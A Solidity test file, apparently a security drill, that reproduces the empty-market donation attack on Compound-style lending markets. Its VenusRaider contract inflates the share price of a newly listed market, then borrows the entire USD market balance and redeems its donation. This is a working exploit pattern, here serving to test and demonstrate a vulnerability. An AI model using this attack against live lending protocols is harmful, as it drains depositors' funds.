// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.24;

import { Compound, IFaucet, IMarket, IVenus } from "./adapters/Compound.sol";

interface IRaided is IMarket {
    function redeemUnderlying(uint256 amount) external returns (uint256);
    function totalSupply() external view returns (uint256);
}

interface ITokens is IFaucet {
    function transfer(address to, uint256 amount) external returns (bool);
    function balanceOf(address account) external view returns (uint256);
}

/// The raid of the drill `empty-market`, against markets of Compound's kind.
contract VenusRaider {
    function raid(IVenus comptroller, IRaided fresh, ITokens collateral, IMarket market, uint256 loan) external {
        collateral.approve(address(fresh), 2);
        require(fresh.mint(2) == 0, "two shares");
        uint256 donation = collateral.balanceOf(address(this));
        collateral.transfer(address(fresh), donation);
        address[] memory entered = new address[](1);
        entered[0] = address(fresh);
        comptroller.enterMarkets(entered);
        require(market.borrow(loan) == 0, "the loan");
        require(fresh.redeemUnderlying(donation) == 0, "the worth of two shares for one");
    }
}

/// What `LendingMarket` was made after is in published code: a drill of ours shows nothing that the real one does not have.
contract EmptyMarketTest is Compound {
    function test_published_markets_are_emptied_by_way_of_an_empty_one() public {
        _market();
        become("ComptrollerG5", address(0x65));
        (IMarket listed, IFaucet token) = _list("NEW", 1e18);
        (IRaided fresh, ITokens collateral) = (IRaided(address(listed)), ITokens(address(token)));
        ITokens dollars = ITokens(address(usdToken));
        uint256 there = dollars.balanceOf(address(usd));
        VenusRaider raider = new VenusRaider();
        uint256 lent = 6_000_000e18;
        collateral.allocateTo(address(raider), lent);
        raider.raid(comptroller, fresh, collateral, usd, there);
        eq(dollars.balanceOf(address(raider)), there, "all of the loans");
        eq(collateral.balanceOf(address(raider)), lent - 2, "and all that was donated");
        eq(fresh.totalSupply(), 1, "for one share that is left");
    }
}
